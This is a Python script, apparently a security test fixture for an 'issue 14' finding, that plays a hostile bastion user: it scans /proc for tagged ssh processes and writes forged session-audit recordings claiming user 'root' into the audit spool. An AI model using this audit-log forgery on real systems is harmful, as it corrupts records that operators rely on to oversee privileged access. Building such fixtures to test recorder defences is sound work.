"""A hostile bastion user's decoy recording (issue 14, finding 1); stdlib only.

Run as an ordinary account by /usr/bin/python3, as such a user would:

  watch SPOOL TAG           wait for anyone's ssh carrying TAG (or a tag that
                            begins with it, for `as-*`), then drop a paramiko
                            recording, already ended, that names that ssh and
                            its tag (pid, start time and argv: /proc is
                            world-readable)
  own SPOOL TAG -- ARGV...  drop one that names this process, keep it open, and
                            exec ARGV (a tagged ssh: same pid, same start time)
"""

from __future__ import annotations

import base64
import json
import os
import sys
import time

MARKER = b"#bastion-audit "


def start_ticks(pid: int) -> int:
    with open(f"/proc/{pid}/stat", "rb") as f:
        stat = f.read()
    return int(stat[stat.rfind(b")") + 2 :].split()[19])


def decoy(tag: str, pid: int) -> bytes:
    now = time.time()
    start = {
        "event": "start",
        "time": now,
        "tag": tag,
        "ssh_pid": pid,
        "start_ticks": start_ticks(pid),
        "started_at": now,
        "uid": os.getuid(),
        "user": "root",
        "tty": "",
        "argv_b64": base64.b64encode(b"ssh\0-t\0--\0decoy.example").decode(),
        "rows": 24,
        "cols": 80,
        "recorder": "paramiko",
    }
    end = {"event": "end", "time": now, "reason": "decoy"}
    return b"".join(MARKER + json.dumps(d).encode() + b"\n" for d in (start, end))


def tagged_ssh(tag: str) -> tuple[int, str] | None:
    wanted = f"AUDIT_SESSION={tag.rstrip('*')}".encode()
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            with open(f"/proc/{name}/comm", "rb") as f:
                if f.read().strip() != b"ssh":
                    continue
            with open(f"/proc/{name}/cmdline", "rb") as f:
                for arg in f.read().split(b"\0"):
                    at = arg.find(wanted)
                    if at >= 0 and (tag.endswith("*") or arg.endswith(wanted)):
                        return int(name), arg[at:].split(b"=", 1)[1].decode()
        except OSError:
            continue
    return None


def create(spool: str, name: str) -> int:
    flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW
    return os.open(os.path.join(spool, name), flags, 0o600)


def main(argv: list[str]) -> int:
    mode, spool, tag = argv[:3]
    if mode == "watch":
        deadline = time.monotonic() + 60
        while (found := tagged_ssh(tag)) is None:
            if time.monotonic() > deadline:
                return 1
            time.sleep(0.001)
        pid, tag = found
        fd = create(spool, "decoy.chunks")
        os.write(fd, decoy(tag, pid))
        os.close(fd)
        print(f"claimed {pid}", flush=True)
        return 0
    fd = create(spool, "own-decoy.chunks")
    os.write(fd, decoy(tag, os.getpid()))
    os.set_inheritable(fd, True)  # the ssh holds it open: "its" recording
    command = argv[argv.index("--") + 1 :]
    os.execvp(command[0], command)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
